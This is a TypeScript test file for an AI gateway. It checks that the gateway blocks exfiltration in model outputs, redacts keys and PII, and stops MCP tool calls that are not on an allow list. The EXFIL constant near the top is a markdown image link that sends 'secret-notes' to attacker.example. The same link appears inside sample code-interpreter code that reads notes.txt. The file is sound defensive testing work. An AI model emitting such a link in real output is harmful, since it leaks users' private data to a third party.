import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
import { createSseParser } from './sse-parser.js';

// End to end through a real gateway: an upstream on 127.0.0.1 answers `/v1/responses` with a reasoning
// item (summary), and a message with an `output_text` and a `refusal` part, whole or streamed (shapes per
// the API reference "Responses object" and "Streaming events").
const EXFIL = '![logo](https://attacker.example/p.png?d=secret-notes)';

interface Answer {
  summary: string;
  text: string;
  refusal: string;
}

function outputOf(answer: Answer): Record<string, unknown>[] {
  return [
    { id: 'rs_1', type: 'reasoning', summary: [{ type: 'summary_text', text: answer.summary }] },
    {
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      status: 'completed',
      content: [
        { type: 'output_text', text: answer.text, annotations: [] },
        { type: 'refusal', refusal: answer.refusal },
      ],
    },
  ];
}

/** Pieces of 5 characters, so detectors see every text only across many deltas. */
function pieces(text: string): string[] {
  return text.match(/[\s\S]{1,5}/g) ?? [];
}

/** The tool items of an answer: streamed as `.added`, deltas of `text`, `.done` and the item `.done`. */
interface ToolAnswer {
  item: Record<string, unknown>;
  text?: { field: string; delta: string; done: string };
}

function toolStreamOf(answer: ToolAnswer): string {
  let sequence = 0;
  let out = '';
  const event = (type: string, data: Record<string, unknown>) => {
    out += `event: ${type}\ndata: ${JSON.stringify({ type, ...data, sequence_number: sequence++ })}\n\n`;
  };
  const { item, text } = answer;
  event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  event('response.output_item.added', { output_index: 0, item: text ? { ...item, [text.field]: '' } : item });
  const at = { item_id: item.id, output_index: 0 };
  if (text) {
    const whole = String(item[text.field]);
    for (const delta of pieces(whole)) event(text.delta, { ...at, delta });
    event(text.done, { ...at, [text.field]: whole });
  }
  event('response.output_item.done', { output_index: 0, item });
  event('response.completed', { response: { id: 'resp_1', status: 'completed', output: [item] } });
  return out;
}

function streamOf(answer: Answer): string {
  let sequence = 0;
  let out = '';
  const event = (type: string, data: Record<string, unknown>) => {
    out += `event: ${type}\ndata: ${JSON.stringify({ type, ...data, sequence_number: sequence++ })}\n\n`;
  };
  const [reasoning, message] = outputOf(answer);
  event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  event('response.output_item.added', { output_index: 0, item: { ...reasoning, summary: [] } });
  const summary = { item_id: 'rs_1', output_index: 0, summary_index: 0 };
  event('response.reasoning_summary_part.added', { ...summary, part: { type: 'summary_text', text: '' } });
  for (const delta of pieces(answer.summary))
    event('response.reasoning_summary_text.delta', { ...summary, delta });
  event('response.reasoning_summary_text.done', { ...summary, text: answer.summary });
  event('response.reasoning_summary_part.done', {
    ...summary,
    part: { type: 'summary_text', text: answer.summary },
  });
  event('response.output_item.done', { output_index: 0, item: reasoning });
  event('response.output_item.added', {
    output_index: 1,
    item: { ...message, status: 'in_progress', content: [] },
  });
  const text = { item_id: 'msg_1', output_index: 1, content_index: 0 };
  event('response.content_part.added', { ...text, part: { type: 'output_text', text: '', annotations: [] } });
  for (const delta of pieces(answer.text))
    event('response.output_text.delta', { ...text, delta, logprobs: [] });
  event('response.output_text.done', { ...text, text: answer.text, logprobs: [] });
  event('response.content_part.done', {
    ...text,
    part: { type: 'output_text', text: answer.text, annotations: [] },
  });
  const refusal = { item_id: 'msg_1', output_index: 1, content_index: 1 };
  event('response.content_part.added', { ...refusal, part: { type: 'refusal', refusal: '' } });
  for (const delta of pieces(answer.refusal)) event('response.refusal.delta', { ...refusal, delta });
  event('response.refusal.done', { ...refusal, refusal: answer.refusal });
  event('response.content_part.done', { ...refusal, part: { type: 'refusal', refusal: answer.refusal } });
  event('response.output_item.done', { output_index: 1, item: message });
  event('response.completed', {
    response: { id: 'resp_1', object: 'response', status: 'completed', output: outputOf(answer) },
  });
  return out;
}

describe('Responses API reasoning and refusals through the gateway', () => {
  let upstream: Server;
  let gateway: TestGateway;
  /** Builds the upstream's answer from the input text it received (already redacted by the gateway). */
  let answerFor: (input: string) => Answer = () => ({ summary: '', text: '', refusal: '' });
  /** When set, the upstream answers with this tool item instead. */
  let toolAnswer: ToolAnswer | undefined;
  const received: string[] = [];

  beforeAll(async () => {
    upstream = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
          input?: string;
          stream?: boolean;
        };
        const input = String(body.input ?? '');
        received.push(input);
        const answer = answerFor(input);
        if (body.stream === true) {
          response.writeHead(200, { 'content-type': 'text/event-stream' });
          response.end(toolAnswer ? toolStreamOf(toolAnswer) : streamOf(answer));
          return;
        }
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(
          JSON.stringify({
            id: 'resp_1',
            object: 'response',
            status: 'completed',
            model: 'm',
            output: toolAnswer ? [toolAnswer.item] : outputOf(answer),
          }),
        );
      });
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    const port = (upstream.address() as AddressInfo).port;
    gateway = await startTestGateway({
      upstreams: [{ name: 'openai', provider: 'openai', baseUrl: `http://127.0.0.1:${port}/v1`, retries: 0 }],
      // MCP tools by name, built-in tools by their type.
      tools: { allow: ['lookup', 'code_interpreter'] },
    });
  });
  afterAll(async () => {
    await gateway.close();
    upstream.closeAllConnections();
    await new Promise((resolve) => upstream.close(resolve));
  });

  async function post(stream: boolean): Promise<{ status: number; text: string }> {
    const response = await fetch(`${gateway.url}/v1/responses`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'm', input: 'Summarise my notes.', stream }),
    });
    return { status: response.status, text: await response.text() };
  }

  it('blocks a whole answer whose reasoning summary carries markdown exfiltration', async () => {
    answerFor = () => ({
      summary: `The notes mention a logo: ${EXFIL} and nothing else.`,
      text: 'Your notes are about the trip.',
      refusal: '',
    });
    const result = await post(false);
    expect(result.status).toBe(422);
    expect(JSON.parse(result.text)).toMatchObject({ error: { code: 'AEGIS_OUTPUT_BLOCKED' } });
    expect(result.text).not.toContain('attacker');
  });

  it('stops a streamed answer whose reasoning summary carries markdown exfiltration', async () => {
    answerFor = () => ({
      summary: `The notes mention a logo: ${EXFIL} and nothing else.`,
      text: 'Your notes are about the trip.',
      refusal: '',
    });
    const result = await post(true);
    expect(result.status).toBe(200);
    expect(result.text).not.toContain('attacker');
    const types: string[] = [];
    let error: unknown;
    const parser = createSseParser({
      onEvent(event) {
        const data = JSON.parse(event.data) as { type: string; error?: { code?: string } };
        types.push(data.type);
        if (data.type === 'error') error = data.error?.code;
      },
    });
    parser.push(Buffer.from(result.text));
    parser.end();
    expect(error).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(types.at(-1)).toBe('error');
    expect(types).not.toContain('response.completed');
    expect(types).not.toContain('response.output_text.delta');
  });

  it('restores redacted values in reasoning summaries and refusals, whole and streamed (openai client)', async () => {
    const client = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: 'unused', maxRetries: 0 });
    const email = 'ann@example.com';
    answerFor = (input) => ({
      summary: `The user asked about ${input}`,
      text: 'Here is a summary.',
      refusal: `I will not forward ${input}`,
    });
    const input = `notes for ${email}`;
    const whole = await client.responses.create({ model: 'm', input });
    // The upstream only ever saw a placeholder.
    expect(received.at(-1)).not.toContain(email);
    const wholeOutput = whole.output as unknown as ReturnType<typeof outputOf>;
    expect(wholeOutput).toEqual(outputOf(answerFor(input)));

    const stream = await client.responses.create({ model: 'm', input, stream: true });
    let summary = '';
    let refusal = '';
    let completed: unknown;
    for await (const event of stream) {
      if (event.type === 'response.reasoning_summary_text.delta') summary += event.delta;
      if (event.type === 'response.refusal.delta') refusal += event.delta;
      if (event.type === 'response.completed') completed = event.response.output;
    }
    expect(received.at(-1)).not.toContain(email);
    expect(summary).toBe(`The user asked about ${input}`);
    expect(refusal).toBe(`I will not forward ${input}`);
    expect(completed).toEqual(outputOf(answerFor(input)));
  });

  describe('tool items', () => {
    const KEY = `sk-${'Qw3Er4Ty5U'.repeat(3)}`;
    const mcpCall = (name: string) => ({
      id: 'mcp_1',
      type: 'mcp_call',
      server_label: 'crm',
      name,
      arguments: JSON.stringify({ customer: 'ann', apiKey: KEY }),
      output: 'Found 1 customer.',
      error: null,
    });
    const mcpText = {
      field: 'arguments',
      delta: 'response.mcp_call_arguments.delta',
      done: 'response.mcp_call_arguments.done',
    };

    /** The events of a streamed answer, and the code of its closing error event if any. */
    function eventsOf(text: string): { types: string[]; error: unknown } {
      const types: string[] = [];
      let error: unknown;
      const parser = createSseParser({
        onEvent(event) {
          const data = JSON.parse(event.data) as { type: string; error?: { code?: string } };
          types.push(data.type);
          if (data.type === 'error') error = data.error?.code;
        },
      });
      parser.push(Buffer.from(text));
      parser.end();
      return { types, error };
    }

    it('redacts a key in streamed MCP call arguments, in every event that repeats them (openai client)', async () => {
      toolAnswer = { item: mcpCall('lookup'), text: mcpText };
      try {
        const client = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: 'unused', maxRetries: 0 });
        const stream = await client.responses.create({ model: 'm', input: 'Find ann.', stream: true });
        let streamed = '';
        let done: unknown;
        let completed: unknown;
        for await (const event of stream) {
          if (event.type === 'response.mcp_call_arguments.delta') streamed += event.delta;
          if (event.type === 'response.mcp_call_arguments.done') done = event.arguments;
          if (event.type === 'response.completed') completed = event.response.output;
        }
        expect(JSON.parse(streamed)).toEqual({
          customer: 'ann',
          apiKey: expect.stringMatching(/^\[REDACTED:[A-Z_]+\]$/),
        });
        expect(done).toBe(streamed);
        expect(completed).toEqual([{ ...mcpCall('lookup'), arguments: streamed }]);
        expect(JSON.stringify(completed)).not.toContain(KEY.slice(3));
      } finally {
        toolAnswer = undefined;
      }
    });

    it('blocks an MCP call to a tool outside `tools.allow`, whole and streamed', async () => {
      toolAnswer = { item: mcpCall('delete_customer'), text: mcpText };
      try {
        const whole = await post(false);
        expect(whole.status).toBe(403);
        expect(JSON.parse(whole.text)).toMatchObject({ error: { code: 'AEGIS_TOOL_NOT_ALLOWED' } });
        const streamed = await post(true);
        expect(eventsOf(streamed.text)).toEqual({
          types: ['response.created', 'error'],
          error: 'AEGIS_TOOL_NOT_ALLOWED',
        });
        expect(streamed.text).not.toContain(KEY.slice(3));
      } finally {
        toolAnswer = undefined;
      }
    });

    it('blocks code-interpreter code that carries markdown exfiltration, whole and streamed', async () => {
      const code = `notes = open("notes.txt").read()\nprint("${EXFIL}")`;
      toolAnswer = {
        item: {
          id: 'ci_1',
          type: 'code_interpreter_call',
          container_id: 'cntr_1',
          status: 'completed',
          code,
          outputs: [],
        },
        text: {
          field: 'code',
          delta: 'response.code_interpreter_call_code.delta',
          done: 'response.code_interpreter_call_code.done',
        },
      };
      try {
        const whole = await post(false);
        expect(whole.status).toBe(422);
        expect(JSON.parse(whole.text)).toMatchObject({ error: { code: 'AEGIS_OUTPUT_BLOCKED' } });
        expect(whole.text).not.toContain('attacker');
        const streamed = await post(true);
        const { types, error } = eventsOf(streamed.text);
        expect(error).toBe('AEGIS_OUTPUT_BLOCKED');
        expect(types.at(-1)).toBe('error');
        expect(types).not.toContain('response.completed');
        expect(streamed.text).not.toContain('attacker');
      } finally {
        toolAnswer = undefined;
      }
    });
  });
});
